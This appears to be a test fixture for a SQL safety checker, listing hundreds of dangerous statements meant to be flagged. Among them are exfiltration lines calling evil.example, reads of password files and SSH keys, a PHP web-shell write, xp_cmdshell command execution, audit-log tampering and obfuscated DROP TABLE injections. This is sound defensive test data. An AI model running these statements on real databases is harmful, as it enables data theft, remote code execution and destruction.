# Statements that must not pass in silence, one a line.
COPY users TO '/tmp/users.csv'
COPY users TO '/var/www/html/x.php'
COPY t FROM '/etc/passwd'
COPY t FROM '/srv/data/in.csv' CSV HEADER
COPY (SELECT * FROM pg_shadow) TO STDOUT
SELECT * FROM users INTO OUTFILE '/tmp/u.txt'
SELECT password FROM mysql.user
SELECT rolname, rolpassword FROM pg_authid
SELECT a FROM (SELECT * FROM pg_shadow) x
SELECT * FROM t JOIN pg_authid ON true
SELECT usename, passwd FROM pg_catalog.pg_shadow
INSERT INTO loot SELECT * FROM pg_shadow
INSERT INTO mysql.user (Host, User) VALUES ('%', 'x')
DELETE FROM mysql.user WHERE User = 'root'
UPDATE pg_database SET datallowconn = false WHERE datname = 'app'
UPDATE sqlite_master SET sql = 'x' WHERE name = 't'
PRAGMA writable_schema = ON
PRAGMA writable_schema=1
PRAGMA writable_schema(1)
PRAGMA main.writable_schema = 1
ATTACH DATABASE '/var/www/shell.php' AS s
ATTACH '/home/dev/.config/google-chrome/Default/Login Data' AS c
SELECT load_extension('./x.so')
SELECT writefile('/etc/cron.d/x', 'y')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x.so')
SELECT lo_put(1, 0, 'x')
SELECT pg_read_file('/etc/passwd')
SELECT dblink('host=evil.example', 'SELECT 1')
SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT pg_promote()
SELECT set_config('row_security', 'off', false)
SELECT set_config('session_replication_role', 'replica', true)
SET session_replication_role = replica
SET session_replication_role TO 'replica'
SET LOCAL row_security = off
SET row_security TO off
ALTER SYSTEM SET fsync = off
ALTER DATABASE app SET row_security = off
ALTER ROLE app SET row_security = off
ALTER ROLE app SUPERUSER
ALTER DATABASE app OWNER TO eve
ALTER DATABASE app RENAME TO b
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
ALTER TABLE t DISABLE TRIGGER ALL
ALTER TABLE t DISABLE ROW LEVEL SECURITY
ALTER TABLE t NO FORCE ROW LEVEL SECURITY
ALTER TABLE t SET LOGGED
ALTER TABLE t SET UNLOGGED
ALTER TABLE t SET TABLESPACE x
ALTER TABLE t DETACH PARTITION p
ALTER TABLE t DROP PARTITION p0
ALTER TABLE t TRUNCATE PARTITION p0
ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)
ALTER TABLE t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES u (id)
ALTER TABLE t ADD CONSTRAINT c UNIQUE (a)
ALTER TABLE t ADD COLUMN d timestamptz DEFAULT clock_timestamp()
ALTER TYPE e RENAME VALUE 'a' TO 'b'
ALTER TABLE t OWNER TO eve
SET GLOBAL general_log = 'OFF'
SET GLOBAL local_infile = 1
SET PERSIST secure_file_priv = ''
SET @@GLOBAL.sql_log_bin = 0
SET @@sql_log_bin = 0
SET autocommit = 0, foreign_key_checks = 0
SET SQL_SAFE_UPDATES = 0
SET sql_log_bin = OFF
SET GLOBAL read_only = OFF
SET GLOBAL validate_password.policy = LOW
SET PASSWORD FOR 'root'@'localhost' = 'x'
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
RESET MASTER
PURGE BINARY LOGS TO 'x'
FLUSH TABLES WITH READ LOCK
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
LOCK TABLES t WRITE
INSTALL PLUGIN x SONAME 'x.so'
CREATE FUNCTION sys_exec RETURNS INT SONAME 'x.so'
CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE C
CREATE EXTENSION plpython3u
CREATE EXTENSION file_fdw
CREATE FUNCTION f() RETURNS void AS $$ import os; os.system('id') $$ LANGUAGE plpython3u
CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql
CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN EXECUTE 'DROP TABLE users'; RETURN NEW; END $$ LANGUAGE plpgsql
CREATE FUNCTION f() RETURNS void AS $$ COPY t TO PROGRAM 'curl -d @- http://evil.example' $$ LANGUAGE sql
CREATE TRIGGER t AFTER INSERT ON u FOR EACH ROW DELETE FROM audit
CREATE TRIGGER t AFTER INSERT ON u FOR EACH ROW BEGIN DELETE FROM audit; END
CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM logs
CREATE PROCEDURE p AS BEGIN DELETE FROM t; END
CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING
CREATE USER MAPPING FOR alice SERVER s OPTIONS (user 'x', password 'y')
CREATE FOREIGN DATA WRAPPER w HANDLER h
CREATE FOREIGN TABLE ft (a text) SERVER s OPTIONS (filename '/etc/passwd')
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x
CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p
CREATE TABLESPACE ts LOCATION '/mnt/x'
CREATE POLICY p ON t USING (true)
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
DROP OWNED BY alice
REASSIGN OWNED BY alice TO bob
DROP MATERIALIZED VIEW mv
DROP FOREIGN TABLE ft
DROP INDEX i
DROP SEQUENCE s
DROP TYPE ty
DROP TRIGGER tr ON t
DROP ROLE alice
DROP EXTENSION pgcrypto
DROP TABLESPACE ts
DROP CAST (a AS b)
DROP COLLATION c
DROP OPERATOR o (int, int)
DROP RULE r ON t
DROP TEXT SEARCH CONFIGURATION x
DROP ACCESS METHOD m
DROP EVENT TRIGGER x
DROP USER MAPPING FOR alice SERVER s
DROP FOREIGN DATA WRAPPER w
DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$
DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'users'); END $$
DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename) || ' CASCADE'; END LOOP; END $$
EXECUTE IMMEDIATE 'DROP TABLE users'
EXEC('DROP TABLE users')
EXEC (@sql)
DECLARE @s varchar(100) = 'DROP TABLE users'; EXEC(@s)
DECLARE @s varchar(100); SET @s = 'DROP TABLE users'; EXEC sp_executesql @s
DECLARE @s varchar(100); SET @s = CAST(0x44524f50205441424c45207573657273 AS varchar(100)); EXEC(@s)
SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s
SET @q = CONCAT('DR', 'OP TABLE users'); PREPARE s FROM @q; EXECUTE s
PREPARE s FROM 'DROP TABLE users'
PREPARE p AS DELETE FROM users
PREPARE p (int) AS DELETE FROM users
EXECUTE IMMEDIATE CONCAT('DROP', ' TABLE users')
EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE
EXEC master..xp_cmdshell 'dir c:'
xp_cmdshell 'whoami'
EXEC xp_dirtree '\\10.0.0.1\x'
xp_dirtree '\\10.0.0.1\x'
EXEC sp_addsrvrolemember 'eve', 'sysadmin'
EXEC ('sp_addsrvrolemember ''eve'', ''sysadmin''') AT LINKED
SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil.example;uid=sa', 'SELECT 1')
SELECT * FROM OPENQUERY(srv, 'SELECT 1; EXEC xp_cmdshell ''dir''')
BULK INSERT t FROM 'c:\windows\win.ini'
BACKUP DATABASE app TO DISK = '\\10.0.0.1\share\x.bak'
RESTORE DATABASE app FROM DISK = 'x.bak' WITH REPLACE
SELECT UTL_HTTP.REQUEST('http://evil.example/' || (SELECT password FROM users WHERE ROWNUM = 1)) FROM dual
SELECT HTTPURITYPE('http://evil.example').getclob() FROM dual
SELECT UTL_INADDR.get_host_address('x.evil.example') FROM dual
BEGIN UTL_FILE.PUT_LINE(f, 'x'); END;
SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper','main','/bin/bash','-c','id') FROM dual
BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'x', job_type => 'EXECUTABLE', job_action => '/bin/sh'); END;
SELECT os_command.exec_clob('id') FROM dual
SELECT system('id')
SELECT sys_eval('id')
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
SELECT LOAD_FILE('/etc/passwd')
SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/x.php'
SELECT cron.schedule('x', '* * * * *', 'DELETE FROM users')
SELECT cron.schedule('x', '* * * * *', $$DELETE FROM users$$)
SELECT net.http_post('http://evil.example', '{}')
SELECT http_get('http://evil.example/' || secret) FROM t
SELECT * FROM read_text('/home/dev/.ssh/id_rsa')
SELECT * FROM url('http://evil.example/x', CSV, 'a String')
INSERT INTO FUNCTION url('http://evil.example/x', CSV, 'a String') SELECT * FROM users
SELECT * FROM file('/etc/passwd', 'CSV')
EXPORT DATABASE 'x'
SHUTDOWN
KILL 17
MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN UPDATE SET a = 1
MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM t
WITH x AS (INSERT INTO t SELECT 1 RETURNING *) DELETE FROM u
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1
VACUUM FULL
CLUSTER
REINDEX DATABASE app
REINDEX TABLE t
DISCARD ALL; DROP TABLE x
DELETE t1 FROM t t1
DELETE FROM t WHERE id IN (SELECT id FROM t)
TRUNCATE t
truncate only a, b restart identity cascade
TRUNCATE/**/TABLE t
dRoP tAbLe users
DROP/**/TABLE/**/users
/*!DROP TABLE users*/
/*!50000DROP*/ /*!50000TABLE*/ users
DR/**/OP TABLE users
SELECT 1;DROP TABLE users;--
SELECT 1 DROP TABLE users
'; DROP TABLE users; --
GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION
GRANT pg_execute_server_program TO app
GRANT pg_read_server_files TO app
GRANT FILE ON *.* TO app
REVOKE ALL ON t FROM app
LOAD 'x.so'
SECURITY LABEL ON TABLE t IS 'x'
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
ALTER EVENT TRIGGER e DISABLE
ALTER TRIGGER t ON u DISABLE
DISABLE TRIGGER t ON u
DROP AUDIT POLICY p
NOAUDIT ALL
ALTER SERVER AUDIT a WITH (STATE = OFF)
DROP SERVER AUDIT a
AUDIT POLICY p
TRUNCATE TABLE audit_log
DELETE FROM audit_log WHERE created_at < now()
UPDATE users SET password = 'x'
UPDATE users SET role = 'admin' WHERE id = 3
UPDATE auth_user SET is_superuser = true WHERE username = 'x'
SELECT pg_drop_replication_slot('x')
SELECT pg_create_restore_point('x')
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_file_write('/etc/cron.d/x', 'y', false)
SELECT pg_sleep(1000)
SELECT BENCHMARK(100000000, MD5(1))
SELECT CASE WHEN substr(password,1,1) = 'a' THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users
ALTER TABLE t DROP COLUMN c
ALTER TABLE t MODIFY c int
ALTER TABLE t CHANGE a b int
ALTER TABLE t RENAME TO u
RENAME TABLE t TO u
ALTER TABLE t ADD COLUMN c int NOT NULL
ALTER TABLE t ALTER COLUMN a TYPE int
UNDROP TABLE t
SELECT * INTO OUTFILE '/tmp/x' FROM users
HANDLER t OPEN
DBCC WRITEPAGE
ALTER LOGIN sa WITH PASSWORD = 'x'
ALTER LOGIN sa ENABLE
ALTER DATABASE app SET RECOVERY SIMPLE
ALTER DATABASE app SET OFFLINE
ALTER DATABASE app SET TRUSTWORTHY ON
CHANGE MASTER TO MASTER_HOST = 'x'
STOP SLAVE
RESET SLAVE ALL
ALTER INSTANCE DISABLE INNODB REDO_LOG
DELETE FROM t WHERE 1=1
DELETE FROM t WHERE true
DELETE FROM t WHERE id = id
DELETE FROM t WHERE id IS NOT NULL
DELETE FROM t WHERE name LIKE '%'
DELETE FROM t WHERE a = 1 OR 1=1
UPDATE t SET a = 1 WHERE 2 > 1
UPDATE t SET a = (SELECT max(b) FROM u WHERE u.id = 3)
DELETE t FROM t LEFT JOIN u ON u.a = t.a
DELETE FROM t LIMIT 99999999999
DO $$ BEGIN IF true THEN DROP TABLE t; END IF; END $$
DECLARE @a varchar(9) = 'DR'; DECLARE @b varchar(99) = 'OP TABLE t'; EXEC(@a + @b)
SELECT @q := 'DROP TABLE t'; PREPARE s FROM @q
EXECUTE IMMEDIATE REVERSE('t ELBAT PORD')
EXECUTE IMMEDIATE CHAR(68,82,79,80,32,84,65,66,76,69,32,116)
EXEC sp_MSforeachtable 'DROP TABLE ?'
CREATE POLICY p ON t FOR SELECT USING (1 = 1)
GRANT SELECT ON t TO PUBLIC
